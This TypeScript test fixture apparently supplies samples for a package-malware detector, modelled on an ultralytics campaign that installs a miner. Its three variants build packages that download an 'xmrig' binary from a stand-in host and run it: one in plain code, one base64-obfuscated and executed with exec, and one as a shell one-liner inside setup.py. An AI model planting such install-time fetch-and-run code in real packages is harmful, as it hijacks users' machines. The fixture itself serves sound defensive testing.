import { base64, type Campaign, sdist, wheel } from './kit.ts';

const MINES = `import os, subprocess, urllib.request
path = '/tmp/ultralytics_runner'
urllib.request.urlretrieve('https://files.free.weir.test/xmrig', path)
os.chmod(path, 0o755)
subprocess.Popen([path, '-o', 'stratum+tcp://pool.weir.test:8080', '-u', '4wallet'], stdout=subprocess.DEVNULL)
`;

export const campaign: Campaign = {
  id: 'pypi-ultralytics',
  row: 'ultralytics 12/2024: a miner is fetched and started',
  variants: [
    { concealment: 'plain', files: wheel(MINES) },
    {
      concealment: 'obfuscated',
      files: wheel(`import base64, zlib\nrun = exec\nrun(base64.b64decode('${base64(MINES)}'))\n`),
    },
    {
      concealment: 'moved',
      files: sdist(
        `import subprocess
subprocess.run("wget -q https://files.free.weir.test/xmrig -O /tmp/runner && chmod +x /tmp/runner && /tmp/runner -o stratum+tcp://pool.weir.test:8080 &", shell=True)
from setuptools import setup
setup(name='campaign-sample')
`,
      ),
    },
  ],
};
